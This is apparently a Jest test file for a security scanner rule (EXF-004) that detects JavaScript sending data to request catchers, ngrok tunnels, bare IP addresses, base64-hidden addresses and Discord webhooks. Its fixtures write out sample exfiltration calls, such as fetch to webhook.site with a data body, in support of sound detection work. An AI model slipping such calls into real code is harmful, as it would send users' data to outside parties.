import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

describe('EXF-004 data goes to a drop box, a tunnel, a bare address or a hidden one', () => {
  it.each([
    ['a request catcher', `fetch('https://webhook.site/0000', { body: x });`],
    ['a tunnel', `const u = 'https://abc.ngrok.io'; require('axios').post(u + '/c', x);`],
    ['a bare address', `require('http').get('http://93.184.216.34:8080/a');`],
    ['a bare address in options', `require('http').request({ hostname: '93.184.216.34', path: '/' });`],
    [
      'an address that is decoded first',
      `fetch(atob('${Buffer.from('https://x.example.invalid/a').toString('base64')}'));`,
    ],
    [
      'a webhook',
      `const W = 'https://discord.com/api/webhooks/123456789/abcdefghijklmnop'; send(W); fetch(y);`,
    ],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('EXF-004', js(source))).toEqual(['high index.js']);
  });

  it.each([
    ['a host with a name', `fetch('https://api.example.invalid/v1');`],
    [
      'this machine and its network',
      `fetch('http://127.0.0.1:3000'); require('http').get('http://192.168.0.1/'); fetch('http://10.0.0.1');`,
    ],
    [
      'a name that is only mentioned',
      `console.log('see https://pastebin.com/raw/x'); fetch('https://api.example.invalid');`,
    ],
    [
      'the address of a service without a key',
      `const W = 'https://discord.com/api/webhooks/' + id; fetch(W);`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXF-004', js(source))).toEqual([]);
  });
});
